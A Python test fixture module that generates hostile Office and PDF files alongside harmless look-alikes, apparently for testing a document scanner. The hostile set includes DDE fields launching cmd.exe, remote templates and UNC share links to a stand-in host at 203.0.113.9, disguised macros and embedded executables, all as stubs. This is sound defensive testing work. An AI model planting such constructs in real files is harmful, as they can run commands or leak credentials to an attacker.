"""Files that attack whoever opens them, and harmless ones that look like them, made anew."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import openpyxl
from openpyxl.chart import BarChart, Reference

from support import files

_OFFICE = "application/vnd.openxmlformats-officedocument."
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_UNC = b"(\\\\\\\\203.0.113.9\\\\share\\\\a.pdf)"
#: Addresses of shares and programs, as relationships and links name them.
SHARE = "file://///203.0.113.9/share/a.png"


_MODES = {False: "Internal", True: "External"}


def related(*relationships: tuple[str, str, bool]) -> bytes:
    """A part of relationships: the kind of each, its target, and whether that lies outside."""
    each = (
        f'<Relationship Id="r{place}" Type="{_RELATED}{kind}" Target="{target}" TargetMode="{_MODES[outside]}"/>'
        for place, (kind, target, outside) in enumerate(relationships)
    )
    return f"<Relationships>{''.join(each)}</Relationships>".encode()


def packed(parts: Mapping[str, bytes | str], types: Mapping[str, str]) -> bytes:
    """A package of these parts, with further content types by the names of parts or by endings."""
    known = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    lines = [f'<Default Extension="{end}" ContentType="{kind}"/>' for end, kind in known.items()]
    lines += [
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        if "/" in name
        else f'<Default Extension="{name}" ContentType="{kind}"/>'
        for name, kind in types.items()
    ]
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f"<Types>{''.join(lines)}</Types>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def words(
    body: str = "", parts: Mapping[str, bytes | str] | None = None, types: Mapping[str, str] | None = None
) -> bytes:
    """A document of a word processor with a body, further parts and content types."""
    main = {"word/document.xml": f"{_OFFICE}wordprocessingml.document.main+xml"}
    text = f'<w:document xmlns:w="w">{body}</w:document>'
    return packed({"word/document.xml": text, **(parts or {})}, {**main, **(types or {})})


def sheet(parts: Mapping[str, bytes | str], types: Mapping[str, str]) -> bytes:
    """A workbook with further parts and content types."""
    main = {"xl/workbook.xml": f"{_OFFICE}spreadsheetml.sheet.main+xml"}
    return packed({"xl/workbook.xml": "<workbook/>", **parts}, {**main, **types})


def field(*pieces: str) -> str:
    """A field whose code stands in several pieces; one in brackets is a field of its own."""
    inside = "".join(
        field(piece[1:-1]) if piece.startswith("{") else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    marks = [f'<w:r><w:fldChar w:fldCharType="{sort}"/></w:r>' for sort in ("begin", "separate", "end")]
    return f"{marks[0]}{inside}{marks[1]}<w:r><w:t>1</w:t></w:r>{marks[2]}"


def _beside(*relationships: tuple[str, str, bool]) -> dict[str, bytes | str]:
    return {"word/_rels/document.xml.rels": related(*relationships)}


def _clicked(action: bytes) -> bytes:
    """A PDF with a link that does something."""
    return files.paged(b"", b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]", action)


_BIN = {"bin": f"{_OFFICE}oleObject"}
_PROGRAM = b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"

HOSTILE: Mapping[str, bytes] = {
    "a template of the web": words(
        parts={
            "word/settings.xml": "<settings/>",
            "word/_rels/settings.xml.rels": related(("attachedTemplate", "http://203.0.113.9/a.dotm", True)),
        },
        types={"word/settings.xml": f"{_OFFICE}wordprocessingml.settings+xml"},
    ),
    "a picture on a share": words(parts=_beside(("image", SHARE, True))),
    "a picture on a share, said to be inside": words(parts=_beside(("image", SHARE, False))),
    "a picture by its address": words(f'<pict><imagedata src="{SHARE}"/></pict>'),
    "a link to a share": words(parts=_beside(("hyperlink", SHARE, True))),
    "an object of another program": words(
        parts={"word/embeddings/a.bin": b"x", **_beside(("oleObject", "embeddings/a.bin", False))}, types=_BIN
    ),
    "another document": words(
        parts={"word/a.html": b"x", **_beside(("aFChunk", "a.html", False))}, types={"html": "text/html"}
    ),
    "macros under another name": words(
        parts={"word/a.png": b"x", **_beside(("vbaProject", "a.png", False))}, types={"png": "image/png"}
    ),
    "macros by their type": words(
        parts={"word/a.bin": b"x"}, types={"bin": "application/vnd.ms-office.vbaProject"}
    ),
    "a main part with macros": packed(
        {"word/document.xml": "<document/>"},
        {"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"},
    ),
    "a field that starts a program": words(field("DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "a field in one": words('<w:fldSimple w:instr="DDE cmd x"/>'),
    "a field whose name is made": words(field("{QUOTE 68 68 69}", "AUTO cmd")),
    "a field that includes": words(field(f'INCLUDEPICTURE "{SHARE}"')),
    "a field that links to a share": words(field(f' HYPERLINK "{SHARE}"')),
    "a field that is not closed": words('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>'),
    "a part of no type": words(parts={"word/a.exe": b"MZ"}),
    "a sheet of macros": sheet(
        {"xl/macrosheets/sheet1.xml": "<macrosheet/>"},
        {"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
    ),
    "a link that starts a program": sheet(
        {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"},
        {"xl/externalLinks/externalLink1.xml": f"{_OFFICE}spreadsheetml.externalLink+xml"},
    ),
    "a control": sheet(
        {"xl/activeX/activeX1.xml": "<ocx/>"},
        {"xl/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
    ),
    "data from elsewhere": sheet(
        {"xl/connections.xml": "<connections/>"},
        {"xl/connections.xml": f"{_OFFICE}spreadsheetml.connections+xml"},
    ),
    "a way to another file": _clicked(b"<</S/GoToR/F%b/D[0/Fit]>>" % _UNC),
    "a way into another file": _clicked(b"<</S/GoToE/F%b/T<</R/C>>>>" % _UNC),
    "a way to another file when it is opened": files.paged(
        b"/OpenAction 4 0 R", b"", b"<</S/GoToR/F%b>>" % _UNC
    ),
    "a form that is sent": _clicked(b"<</S/SubmitForm/F(http://203.0.113.9/)>>"),
    "data that are fetched": _clicked(b"<</S/ImportData/F%b>>" % _UNC),
    "a link to a share, in a PDF": _clicked(b"<</S/URI/URI(file://203.0.113.9/share)>>"),
    "links below a share": files.paged(b"/URI<</Base(file://203.0.113.9/)>>"),
    "an action that nobody knows": _clicked(b"<</S/Khac>>"),
    "a program": files.paged(
        b"/Names<</EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>]>>>>",
        b"",
        _PROGRAM,
    ),
    "a program behind a comment": files.paged(
        b"", b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x.exe)/EF<</F 4 0 R>>>>>>]", _PROGRAM
    ),
    "a stage": files.paged(b"", b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"),
    "a stream in another file": files.paged(
        b"/Metadata 4 0 R", b"", b"<</Type/Metadata/F%b/Length 0>>stream\n\nendstream" % _UNC
    ),
}


def _worksheet() -> bytes:
    """A workbook as a library writes it, with a chart and a link."""
    book, made = openpyxl.Workbook(), io.BytesIO()
    page = book.worksheets[0]
    for number in range(4):
        page.append([number, number * 2])
    page["C1"].hyperlink = "https://example.org/"
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=1, max_row=4))
    page.add_chart(chart, "E1")
    book.save(made)
    return made.getvalue()


HARMLESS: Mapping[str, bytes] = {
    "a workbook with a chart": _worksheet(),
    "a document with a picture and links": words(
        field("PAGE \\* MERGEFORMAT")
        + field("IF ", "{MERGEFIELD a}", ' = "x" "y"')
        + field('HYPERLINK \\l "muc"')
        + field('HYPERLINK "https://example.org"')
        + field(""),
        {
            "word/media/a.png": files.picture(),
            **_beside(
                ("image", "media/a.png", False),
                ("hyperlink", "https://example.org/a?b=c:d", True),
                ("hyperlink", "mailto:a@example.org", True),
                ("hyperlink", "#muc", False),
            ),
        },
        {"png": "image/png"},
    ),
    "a PDF with links": files.linked(),
}
